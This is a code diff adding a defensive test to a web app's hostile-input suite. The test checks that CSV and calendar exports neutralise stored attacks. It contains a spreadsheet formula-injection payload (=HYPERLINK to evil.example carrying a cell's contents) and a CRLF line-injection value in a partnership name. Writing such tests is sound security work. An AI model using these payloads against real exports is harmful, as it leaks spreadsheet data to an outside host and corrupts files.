@@ -142,8 +142,40 @@ describe('hostile and absurd input', () => {
     await stack.database.db.$executeRaw`UPDATE partnership SET status = 'ended_early' WHERE id = ${created.json.id}::uuid`;
   });
 
+  it('writes stored text that would attack its reader harmlessly: formulas in CSV, line breaks in calendars', async () => {
+    const created = await stack.call<{ id: string }>(
+      stack.adminKey,
+      'POST',
+      '/partnerships',
+      partnership({ name: 'Output test', district: { name: 'Output USD' } }),
+    );
+    expect(created.status, created.text).toBe(201);
+    const db = stack.database.db;
+    const ana = await db.person.findUniqueOrThrow({ where: { email: 'ana@lakeside.example' } });
+    // As stored before names were held to one line, or by whatever writes the database directly.
+    await db.$executeRaw`UPDATE partnership SET name = ${'Output\r\nX-INJECTED:1'} WHERE id = ${created.json.id}::uuid`;
+    await db.commitment.create({
+      data: {
+        partnershipId: created.json.id,
+        ownerId: ana.id,
+        side: 'district',
+        description: '=HYPERLINK("http://evil.example/?x="&A1,"details")',
+        dueAt: new Date(Date.now() - 86_400_000),
+        status: 'overdue',
+      },
+    });
+    const csv = await stack.call(stack.adminKey, 'GET', '/reports/overdue-commitments.csv');
+    expect(csv.status).toBe(200);
+    expect(csv.text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""details"")"`);
+    expect(csv.text).not.toMatch(/(^|,)"?=HYPERLINK/m);
+    const ics = await stack.call(stack.adminKey, 'GET', `/partnerships/${created.json.id}/calendar.ics`);
+    expect(ics.status, ics.text).toBe(200);
+    expect(ics.text).not.toMatch(/^X-INJECTED/m);
+    await db.$executeRaw`UPDATE partnership SET status = 'ended_early' WHERE id = ${created.json.id}::uuid`;
+  });
+
   it('refuses far-off due dates and reschedules on an existing partnership, and none of the above wrote anything', async () => {
-    expect(await stack.database.db.partnership.count({ where: { name: { not: 'Zone test' } } })).toBe(0);
+    expect(await stack.database.db.partnership.count({ where: { name: { notIn: ['Zone test', 'Output\r\nX-INJECTED:1'] } } })).toBe(0);
     const created = await stack.call<{ id: string; firstReview: { id: string } }>(stack.adminKey, 'POST', '/partnerships', partnership());
     expect(created.status, created.text).toBe(201);
     const { id, firstReview } = created.json;
@@ -163,7 +195,7 @@ describe('hostile and absurd input', () => {
     );
     const db = stack.database.db;
     expect([
-      await db.partnership.count({ where: { name: { not: 'Zone test' } } }),
+      await db.partnership.count({ where: { name: { notIn: ['Zone test', 'Output\r\nX-INJECTED:1'] } } }),
       await db.commitment.count(),
       await db.evidenceRequest.count(),
     ]).toEqual([1, 0, 0]);
